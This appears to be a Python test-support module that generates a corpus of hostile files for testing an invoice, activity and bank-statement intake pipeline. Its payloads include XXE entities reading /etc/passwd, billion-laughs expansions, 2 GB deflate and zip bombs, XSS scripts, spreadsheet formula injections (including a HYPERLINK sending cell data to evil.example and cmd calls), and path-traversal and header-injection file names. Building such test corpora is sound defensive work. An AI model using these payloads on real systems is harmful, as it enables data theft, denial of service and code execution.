"""A hostile-file corpus, generated on demand and never stored in the repository: files that
try to break whatever reads them, for every intake channel.

`hostile_files()` returns `HostileFile(name, content, content_type, kind)` tuples (about 350);
`write_corpus(folder)` writes them into a folder (a drop folder, say) under safe names.

`kind` is "<channel>:<attack>". The channel is the intake the file was made for: `invoice`
(vendor invoice files: PDF, e-invoice XML), `activity` (activity CSV/XLSX), `statement` (bank
statements: camt.053, CSV, MT940) or `any` (sent to every channel). `expected(kind, channel)`
says what a channel must make of it:
- "refused": a clear refusal, nothing stored but the record of the refusal;
- "accepted": a normal, safe result (the file itself is fine; only its name is hostile);
- "either": refused or accepted, but never an error and never anything half-stored.

Activity files name the vendor ACTIVITY_VENDOR with activity types "clicks" and "sales" in EUR,
so that a database with that vendor's rate card refuses them only for what is hostile in them.
"""
from __future__ import annotations

import io
import re
import struct
import zlib
from functools import lru_cache
from pathlib import Path
from typing import NamedTuple

ACTIVITY_VENDOR = "HOSTILE-V1"
XML, PDF, CSV, TEXT = "application/xml", "application/pdf", "text/csv", "text/plain"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BINARY = "application/octet-stream"
# What a bomb decompresses to (and what the readers must never try to hold).
BOMB_BYTES = 2 * 1024**3

# Hostile numbers: not finite, too large for any amount column, or written so Decimal overflows.
POISON_NUMBERS = ("NaN", "Infinity", "-Infinity", "sNaN", "1E+999999", "12345678901234567890",
                  "-98765432109876543210.55", "99999999999999999999999999")

# File names that break headers, paths, encodings or databases. Each has a hostile variant of
# ".xml", ".csv" and ".camt" appended.
ODD_NAMES = (
    'in"voice', "in'voice", 'a"; filename="evil.html', "line\r\nContent-Type: text/html\r\n\r\n<script>x",
    "%0d%0aSet-Cookie: a=b", "счёт-фактура", "請求書", "فاتورة", "😀 invoice", "nul\x00byte", "../../etc/passwd",
    "x" * 600, "tab\tand\x1bescape", "\u202eexe.pdf",
)

# Attacks each channel must refuse; the rest are "either" (or "accepted" for odd names).
REFUSED = {
    # A PDF of too many pages is an invoice a person completes by hand (a Draft that says why).
    "invoice": {"xxe", "billion_laughs", "dtd", "non_finite", "huge_amount", "pdf_deflate_bomb",
                "embedded_xxe", "embedded_non_finite", "empty", "html_root"},
    "activity": {"non_finite", "huge_amount", "zip_bomb", "xlsx_entities", "non_utf8", "empty", "duplicate_header"},
    "statement": {"xxe", "billion_laughs", "dtd", "non_finite", "huge_amount", "empty"},
}


class HostileFile(NamedTuple):
    name: str
    content: bytes
    content_type: str
    kind: str  # "<channel>:<attack>"


def expected(kind: str, channel: str) -> str:
    """"refused", "accepted" or "either" for a file of `kind` sent to `channel`."""
    target, attack = kind.split(":", 1)
    if attack == "empty":
        return "refused"
    if target == channel and attack == "odd_name":
        return "accepted"
    if target == channel and attack in REFUSED[channel]:
        return "refused"
    return "either"


def hostile_files(fetch_url: str = "http://127.0.0.1:9/") -> list[HostileFile]:
    """The whole corpus. External entities and DTDs point at `fetch_url`: a test that listens
    there can check nothing was ever fetched."""
    return list(_corpus(fetch_url))


def write_corpus(folder: Path, fetch_url: str = "http://127.0.0.1:9/") -> list[Path]:
    """Write the corpus into `folder`, one file each, under names safe for the file system
    (the hostile name's characters replaced); the paths written, in corpus order."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for number, item in enumerate(hostile_files(fetch_url)):
        stem, dot, suffix = item.name.rpartition(".")
        safe = re.sub(r"[^\w.-]+", "_", stem if dot else item.name)[:80]
        path = folder / f"{number:04d}-{safe}{'.' + re.sub(r'[^A-Za-z0-9]', '', suffix)[:8] if dot else ''}"
        path.write_bytes(item.content)
        paths.append(path)
    return paths


@lru_cache(maxsize=4)
def _corpus(fetch_url: str) -> tuple[HostileFile, ...]:
    files: list[HostileFile] = []
    files += _invoice_xml(fetch_url)
    files += _invoice_pdfs(fetch_url)
    files += _activity_files()
    files += _statements(fetch_url)
    files += _any_channel()
    return tuple(files)


# --- e-invoices ------------------------------------------------------------------------------

@lru_cache(maxsize=1)
def _base_invoices() -> dict[str, bytes]:
    import facturx

    from tests.unit.einvoice_samples import INVOICE

    return {"cii": facturx.generate_cii_xml(INVOICE, level="en16931", check_schematron=False),
            "ubl": facturx.generate_ubl_xml(INVOICE, level="en16931", check_schematron=False)}


# The elements holding each amount (and the quantity) in CII and in UBL.
AMOUNT_TAGS = {
    "cii": {"total": "GrandTotalAmount", "subtotal": "TaxBasisTotalAmount", "tax": "TaxTotalAmount",
            "line": "LineTotalAmount", "price": "ChargeAmount", "quantity": "BilledQuantity"},
    "ubl": {"total": "TaxInclusiveAmount", "subtotal": "TaxExclusiveAmount", "tax": "TaxAmount",
            "line": "LineExtensionAmount", "price": "PriceAmount", "quantity": "InvoicedQuantity"},
}


def _with_value(xml: bytes, tag: str, value: str) -> bytes:
    """Every element named `tag` (any prefix) holding `value` instead of what it held."""
    changed, count = re.subn(rb"(<(?:[\w-]+:)?" + tag.encode() + rb"\b[^>]*>)[^<]*(</)",
                             lambda m: m.group(1) + value.encode() + m.group(2), xml)
    assert count, tag
    return changed


def _with_number(xml: bytes, number: str) -> bytes:
    """The invoice under another invoice number (so each odd-named copy is a new invoice)."""
    return xml.replace(b"FX-2026-0042", number.encode())


def _with_doctype(xml: bytes, doctype: str, reference: str = "") -> bytes:
    """A DOCTYPE declaration put before the root, and `reference` (an entity) as the seller name."""
    declaration, _, body = xml.partition(b"?>")
    body = body.replace(b"Kestrel Media GmbH", reference.encode(), 1) if reference else body
    return declaration + b"?>\n" + doctype.encode() + body


def _entity_attacks(root: str, fetch_url: str) -> dict[str, list[tuple[str, str]]]:
    """attack -> [(DOCTYPE, reference)] aimed at a document whose root element is `root`."""
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return {
        "xxe": [
            (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
            (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"),
            (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{fetch_url}xxe">]>', "&x;"),
            (f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{fetch_url}param.dtd"> %p;]>', ""),
            (f'<!DOCTYPE {root} [<!ENTITY x PUBLIC "-//X//Y" "{fetch_url}public">]>', "&x;"),
        ],
        "billion_laughs": [
            (f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
            (f'<!DOCTYPE {root} [<!ENTITY big "{"A" * 50_000}">]>', "&big;" * 2_000),  # quadratic blowup
            (f'<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),  # recursion
        ],
        "dtd": [
            (f'<!DOCTYPE {root} SYSTEM "{fetch_url}invoice.dtd">', ""),
            (f'<!DOCTYPE {root} SYSTEM "file:///etc/passwd">', ""),
        ],
    }


def _invoice_xml(fetch_url: str) -> list[HostileFile]:
    files = []
    for flavor, base in _base_invoices().items():
        for field, tag in AMOUNT_TAGS[flavor].items():
            for number in POISON_NUMBERS:
                attack = "non_finite" if not any(c.isdigit() for c in number) or "E" in number else "huge_amount"
                files.append(HostileFile(f"{flavor}-{field}-{number}.xml", _with_value(base, tag, number), XML,
                                         f"invoice:{attack}"))
        root = "rsm:CrossIndustryInvoice" if flavor == "cii" else "Invoice"
        for attack, variants in _entity_attacks(root, fetch_url).items():
            for index, (doctype, reference) in enumerate(variants):
                files.append(HostileFile(f"{flavor}-{attack}-{index}.xml", _with_doctype(base, doctype, reference),
                                         XML, f"invoice:{attack}"))
        # Script inside an e-invoice: well-formed, readable, and must never run anywhere.
        script = ('<xhtml:script xmlns:xhtml="http://www.w3.org/1999/xhtml">window.__hostile=1;alert(document.cookie)'
                  '</xhtml:script>')
        files.append(HostileFile(f"{flavor}-script-in-name.xml", base.replace(
            b"Kestrel Media GmbH", b"Kestrel Media GmbH" + script.encode(), 1), XML, "invoice:script"))
        files.append(HostileFile(f"{flavor}-script-after-root.xml", base.replace(
            b"?>", b"?>" + b'<?xml-stylesheet type="text/xsl" href="' + fetch_url.encode() + b'x.xsl"?>', 1)
            .rstrip() + b"<!-- <script>alert(1)</script> -->", XML, "invoice:script"))
        files.append(HostileFile(f"{flavor}-cdata-script.xml", base.replace(
            b"Sponsored post", b"<![CDATA[</script><script>alert(1)</script>]]>", 1), XML, "invoice:script"))
    files.append(HostileFile("page.xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
                             b'<script>window.__hostile=1;alert(1)</script></body></html>', XML, "invoice:html_root"))
    files.append(HostileFile("image.svg.xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', XML,
                             "invoice:html_root"))
    return files


# --- PDFs ------------------------------------------------------------------------------------

def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of `objects` (object n is objects[n - 1]; object 1 is the catalog), with its xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 720 Td (Invoice FX-2026-0042) Tj ET"


def _one_page_pdf(content: bytes, content_extra: bytes = b"", names: bytes = b"", more: list[bytes] | None = None) -> bytes:
    """Catalog, one page with `content` as its content stream, and `more` objects from 6 on."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % names,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content, content_extra),
        _FONT,
        *(more or []),
    ])


def _with_attachment(xml: bytes, name: bytes = b"factur-x.xml", extra: bytes = b"") -> bytes:
    """A one-page PDF carrying `xml` as an embedded file, as Factur-X does."""
    names = b"/Names << /EmbeddedFiles << /Names [(%s) 6 0 R] >> >>" % name
    return _one_page_pdf(_TEXT, names=names, more=[
        b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>" % (name, name),
        _stream(xml, b"/Type /EmbeddedFile " + extra),
    ])


@lru_cache(maxsize=4)
def _deflated_run(unit: bytes, total: int, raw: bool = False) -> tuple[bytes, int, int]:
    """`unit` repeated to about `total` bytes and deflated, in a fraction of a second: (data,
    CRC-32 of the run, its exact size). After a full flush the compressor starts afresh, so each
    16 MB of the run compresses to the same bytes, and the data is that block repeated. zlib
    format (with its Adler-32; zeros only) unless `raw` (as in a zip, which carries the CRC)."""
    chunk = unit * max(1, (1 << 24) // len(unit))
    count = max(1, total // len(chunk))
    size = count * len(chunk)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = first + again * (count - 1) + b"\x03\x00"  # an empty final block ends the stream
    if raw:
        return body, _crc32_repeated(zlib.crc32(chunk), len(chunk), count), size
    assert not unit.strip(b"\x00"), "the Adler-32 below is that of zeros"
    return body + (((size % 65521) << 16) | 1).to_bytes(4, "big"), 0, size


def _crc32_repeated(crc: int, length: int, count: int) -> int:
    """The CRC-32 of a block (CRC `crc`, `length` bytes) repeated `count` times, without reading
    gigabytes: zlib's crc32_combine, applied by doubling."""
    def times(matrix: list[int], vector: int) -> int:
        total, row = 0, 0
        while vector:
            if vector & 1:
                total ^= matrix[row]
            vector, row = vector >> 1, row + 1
        return total

    def combine(first: int, second: int, second_length: int) -> int:
        odd = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit through the CRC register
        even = [times(odd, odd[n]) for n in range(32)]
        odd = [times(even, even[n]) for n in range(32)]
        while second_length:
            even = [times(odd, odd[n]) for n in range(32)]
            if second_length & 1:
                first = times(even, first)
            second_length >>= 1
            if not second_length:
                break
            odd = [times(even, even[n]) for n in range(32)]
            if second_length & 1:
                first = times(odd, first)
            second_length >>= 1
        return first ^ second

    result, result_length, block, block_length = 0, 0, crc, length
    while count:
        if count & 1:
            result, result_length = combine(result, block, block_length), result_length + block_length
        block, block_length = combine(block, block, block_length), block_length * 2
        count >>= 1
    return result


def _page_tree_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
                 *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * pages])


def _nested_pages_pdf(depth: int) -> bytes:
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 %s>>" % (n + 3, b"/Parent %d 0 R " % (n + 1) if n else b"")
             for n in range(depth)]
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes,
                 b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth + 1)])


def _text_invoice_pdf(total: str) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=11)
    for line in ("Kestrel Media GmbH", "Invoice number: INV-HUGE-1", "Invoice date: 2026-10-15",
                 "Subtotal: EUR 100.00", "VAT: EUR 19.00", f"Total: EUR {total}"):
        pdf.cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def _invoice_pdfs(fetch_url: str) -> list[HostileFile]:
    bomb = _deflated_run(b"\x00", BOMB_BYTES)[0]
    files = [
        HostileFile("pages-100000.pdf", _page_tree_pdf(100_000), PDF, "invoice:pdf_pages"),
        HostileFile("pages-31.pdf", _page_tree_pdf(31), PDF, "invoice:pdf_pages"),
        HostileFile("pages-count-lie.pdf", _page_tree_pdf(1).replace(b"/Count 1", b"/Count 2147483647"), PDF,
                    "invoice:pdf_count_lie"),
        HostileFile("pages-nested-5000.pdf", _nested_pages_pdf(5_000), PDF, "invoice:pdf_nested"),
        HostileFile("deflate-bomb.pdf", _one_page_pdf(bomb, b"/Filter /FlateDecode"), PDF, "invoice:pdf_deflate_bomb"),
        HostileFile("deflate-bomb-twice.pdf", _one_page_pdf(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]"),
                    PDF, "invoice:pdf_deflate_bomb"),
        HostileFile("attachment-bomb.pdf", _with_attachment(bomb, extra=b"/Filter /FlateDecode"), PDF,
                    "invoice:pdf_attachment_bomb"),
        HostileFile("truncated.pdf", _one_page_pdf(_TEXT)[:200], PDF, "invoice:pdf_damaged"),
        HostileFile("garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 64, PDF, "invoice:pdf_damaged"),
        HostileFile("text-total-20-digits.pdf", _text_invoice_pdf("12,345,678,901,234,567,890.00"), PDF,
                    "invoice:huge_amount"),
        HostileFile("text-total-17-digits.pdf", _text_invoice_pdf("98,765,432,109,876,543.21"), PDF,
                    "invoice:huge_amount"),
    ]
    cii = _base_invoices()["cii"]
    for attack, variants in _entity_attacks("rsm:CrossIndustryInvoice", fetch_url).items():
        for index, (doctype, reference) in enumerate(variants):
            files.append(HostileFile(f"facturx-{attack}-{index}.pdf", _with_attachment(_with_doctype(cii, doctype, reference)),
                                     PDF, "invoice:embedded_xxe"))
    for field in ("total", "subtotal", "line", "quantity"):
        for number in POISON_NUMBERS:
            files.append(HostileFile(f"facturx-{field}-{number}.pdf",
                                     _with_attachment(_with_value(cii, AMOUNT_TAGS["cii"][field], number)), PDF,
                                     "invoice:embedded_non_finite"))
    return files


# --- activity files --------------------------------------------------------------------------

def _activity_csv(rows: list[tuple[str, str, str, str, str]], header: str = "vendor,activity_type,date,quantity,revenue,currency",
                  encoding: str = "utf-8") -> bytes:
    lines = [header] + [",".join((*row, "EUR")) for row in rows]
    return ("\n".join(lines) + "\n").encode(encoding)


def _xlsx(rows: list[list[object]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, raw deflate data, CRC-32, unpacked size) entries, written by hand so an
    entry can declare gigabytes it was never made from."""
    out, directory = bytearray(), bytearray()
    for name, data, crc, size in entries:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0)
        out += encoded + data
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size,
                                 len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(out), 0)
    return bytes(out + directory + end)


def _xlsx_with_sheet(sheet: tuple[bytes, int, int]) -> bytes:
    """A real workbook whose first sheet is replaced by `sheet` (raw deflate data, CRC, size)."""
    import zipfile

    entries = []
    with zipfile.ZipFile(io.BytesIO(_xlsx([["vendor", "activity_type", "date", "quantity"]]))) as book:
        for info in book.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                entries.append((info.filename, *sheet))
            else:
                data = book.read(info)
                compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
                entries.append((info.filename, compressor.compress(data) + compressor.flush(), zlib.crc32(data),
                                len(data)))
    return _zip(entries)


_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?>'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')


def _activity_files() -> list[HostileFile]:
    v = ACTIVITY_VENDOR
    files = []
    for number in POISON_NUMBERS:
        attack = "non_finite" if not any(c.isdigit() for c in number) or "E" in number else "huge_amount"
        files.append(HostileFile(f"revenue-{number}.csv", _activity_csv([(v, "sales", "2026-10-03", "1", number)]), CSV,
                                 f"activity:{attack}"))
        files.append(HostileFile(f"quantity-{number}.csv", _activity_csv([(v, "clicks", "2026-10-03", number, "")]), CSV,
                                 f"activity:{attack}"))
        files.append(HostileFile(f"revenue-{number}.xlsx", _xlsx([["vendor", "activity_type", "date", "quantity", "revenue",
                                                                   "currency"], [v, "sales", "2026-10-03", "1", number, "EUR"]]),
                                 XLSX, f"activity:{attack}"))
        files.append(HostileFile(f"quantity-{number}.xlsx", _xlsx([["vendor", "activity_type", "date", "quantity", "currency"],
                                                                   [v, "clicks", "2026-10-03", number, "EUR"]]),
                                 XLSX, f"activity:{attack}"))
    formulas = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1")
    for index, formula in enumerate(formulas):
        quoted = '"' + formula.replace('"', '""') + '"'
        files.append(HostileFile(f"formula-vendor-{index}.csv", _activity_csv([(quoted, "clicks", "2026-10-03", "5", "")]),
                                 CSV, "activity:formula"))
        files.append(HostileFile(f"formula-type-{index}.csv", _activity_csv([(v, quoted, "2026-10-03", "5", "")]), CSV,
                                 "activity:formula"))
        files.append(HostileFile(f"formula-row-id-{index}.csv", ("vendor,activity_type,date,quantity,currency,row_id\n"
                                                                 f"{v},clicks,2026-10-03,5,EUR,{quoted}\n").encode(),
                                 CSV, "activity:formula"))
        files.append(HostileFile(f"formula-{index}.xlsx", _xlsx([["vendor", "activity_type", "date", "quantity", "currency"],
                                                                 [formula, "clicks", "2026-10-03", 5, "EUR"]]),
                                 XLSX, "activity:formula"))
    text = f"vendor,activity_type,date,quantity,currency\n{v},clicks,2026-10-03,5,EUR\nCafé Müller,clicks,2026-10-04,5,EUR\n"
    for encoding in ("latin-1", "cp1252", "shift_jis", "utf-16-le", "utf-16-be", "cp1251"):
        sample = text.replace("Café Müller", "Café Müller" if encoding not in ("shift_jis", "cp1251") else
                              ("請求書" if encoding == "shift_jis" else "Счёт"))
        files.append(HostileFile(f"activity-{encoding}.csv", sample.encode(encoding), CSV, "activity:non_utf8"))
    files.append(HostileFile("activity-invalid-utf8.csv", text.encode() + b"\xff\xfe\xc3\x28\n", CSV, "activity:non_utf8"))
    files.append(HostileFile("activity-odd-utf16.csv", b"\xff\xfe" + text.encode("utf-16-le") + b"\x00", CSV,
                             "activity:non_utf8"))
    files.append(HostileFile("activity-duplicate-header.csv", f"vendor,vendor ,activity_type,date,quantity\n{v},{v},clicks,"
                                                              "2026-10-03,5\n".encode(), CSV, "activity:duplicate_header"))
    zeros = _deflated_run(b"\x00", BOMB_BYTES, raw=True)
    rows = b'<row><c t="inlineStr"><is><t>' + v.encode() + b"</t></is></c></row>"
    files += [
        HostileFile("zeros-bomb.xlsx", _xlsx_with_sheet(zeros), XLSX, "activity:zip_bomb"),
        # Rows without the sheet's head and tail: not even XML, so only the bounds stand in the way.
        HostileFile("rows-bomb.xlsx", _xlsx_with_sheet(_deflated_run(rows, BOMB_BYTES, raw=True)), XLSX,
                    "activity:zip_bomb"),
        HostileFile("rows-ratio.xlsx", _xlsx_with_sheet(_deflated_run(rows, 256 * 1024**2, raw=True)), XLSX,
                    "activity:zip_bomb"),
        HostileFile("many-parts.xlsx", _zip([(f"xl/part{n}.xml", b"\x03\x00", 0, 0) for n in range(12_000)]), XLSX,
                    "activity:zip_bomb"),
        HostileFile("size-lie.xlsx", _xlsx_with_sheet((zeros[0][: 1 << 16], 0, 2**32 - 1)), XLSX, "activity:zip_bomb"),
    ]
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">' + laughs.encode() + b"]>"
             + _SHEET_HEAD.split(b"?>", 1)[1] + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row>'
             b"</sheetData></worksheet>")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    files.append(HostileFile("entities.xlsx", _xlsx_with_sheet((compressor.compress(sheet) + compressor.flush(),
                                                               zlib.crc32(sheet), len(sheet))), XLSX,
                             "activity:xlsx_entities"))
    return files


# --- bank statements -------------------------------------------------------------------------

def camt053(amount: str = "12.34", reference: str = "NOTOURS-1", doctype: str = "", name: str = "Counterparty") -> bytes:
    """A one-entry camt.053 statement."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">'
            f"<BkToCstmrStmt><GrpHdr><MsgId>STMT-H</MsgId><CreDtTm>2026-12-02T08:00:00</CreDtTm></GrpHdr><Stmt><Id>1</Id>"
            f'<Ntry><Amt Ccy="EUR">{amount}</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2026-12-02</Dt>'
            f"</BookgDt><NtryDtls><TxDtls><Refs><EndToEndId>{reference}</EndToEndId></Refs><RltdPties><Cdtr><Nm>{name}"
            f"</Nm></Cdtr></RltdPties></TxDtls></NtryDtls></Ntry></Stmt></BkToCstmrStmt></Document>").encode()


def _mt940(amount: str) -> bytes:
    return (":20:STMT-H\n:25:10020030/1234567\n:28C:00001/001\n:60F:C261201EUR1000,00\n"
            f":61:2612021202D{amount}NTRFNONREF//REF-1\n:86:Hostile payment\n:62F:C261202EUR900,00\n").encode()


def _statements(fetch_url: str) -> list[HostileFile]:
    files = []
    for number in POISON_NUMBERS:
        attack = "non_finite" if not any(c.isdigit() for c in number) or "E" in number else "huge_amount"
        files.append(HostileFile(f"camt-{number}.xml", camt053(number), XML, f"statement:{attack}"))
        files.append(HostileFile(f"statement-{number}.csv", f"booking_date,amount,currency,reference\n2026-12-02,{number},EUR,"
                                                            "REF-1\n".encode(), CSV, f"statement:{attack}"))
    for amount in ("99999999999999999999,00", "123456789012345678,99"):
        files.append(HostileFile(f"mt940-{amount[:6]}.sta", _mt940(amount), TEXT, "statement:huge_amount"))
    for attack, variants in _entity_attacks("Document", fetch_url).items():
        for index, (doctype, reference) in enumerate(variants):
            files.append(HostileFile(f"camt-{attack}-{index}.xml", camt053(name=reference or "X", doctype=doctype), XML,
                                     f"statement:{attack}"))
    files.append(HostileFile("camt-bad-date.xml", camt053().replace(b"2026-12-02</Dt>", b"2026-13-45</Dt>"), XML,
                             "statement:bad_date"))
    files.append(HostileFile("camt-nul.xml", camt053(name="A&#x1;B"), XML, "statement:control_chars"))
    return files


# --- every channel ---------------------------------------------------------------------------

def _any_channel() -> list[HostileFile]:
    pdf = _one_page_pdf(_TEXT)
    csv = _activity_csv([(ACTIVITY_VENDOR, "clicks", "2026-10-03", "5", "")])
    xlsx = _xlsx([["vendor", "activity_type", "date", "quantity", "currency"], [ACTIVITY_VENDOR, "clicks", "2026-10-03", 5, "EUR"]])
    png = b"\x89PNG\r\n\x1a\n" + bytes(64)
    html = b"<!doctype html><html><body><script>window.__hostile=1</script></body></html>"
    files = [HostileFile(f"empty{suffix}", b"", BINARY, "any:empty")
             for suffix in (".pdf", ".xml", ".csv", ".xlsx", ".txt", ".sta", ".camt", "")]
    wrong = [("invoice.csv", pdf, CSV), ("invoice.xlsx", pdf, XLSX), ("invoice.txt", pdf, TEXT),
             ("activity.pdf", csv, PDF), ("activity.xml", csv, XML), ("activity.xlsx", csv, XLSX),
             ("activity.pdf", xlsx, PDF), ("activity.csv", xlsx, CSV), ("activity.xml", xlsx, XML),
             ("photo.pdf", png, PDF), ("photo.xlsx", png, XLSX), ("photo.csv", png, CSV),
             ("page.xml", html, XML), ("page.pdf", html, PDF), ("page.csv", html, CSV),
             ("archive.xlsx", _zip([("readme.txt", b"\x03\x00", 0, 0)]), XLSX),
             ("data.csv", b'{"vendor": "V", "rows": [1, 2, 3]}', CSV), ("statement.pdf", camt053(), PDF)]
    files += [HostileFile(name, content, content_type, "any:wrong_extension") for name, content, content_type in wrong]
    for index, stem in enumerate(ODD_NAMES):
        invoice = _with_number(_base_invoices()["cii"], f"ODD-{index:03d}")
        files.append(HostileFile(f"{stem}.xml", invoice, XML, "invoice:odd_name"))
        rows = _activity_csv([(ACTIVITY_VENDOR, "clicks", f"2026-10-{index + 1:02d}", str(index + 1), "")])
        files.append(HostileFile(f"{stem}.csv", rows, CSV, "activity:odd_name"))
        files.append(HostileFile(f"{stem}.camt", camt053(reference=f"ODD-{index:03d}"), XML, "statement:odd_name"))
    return files
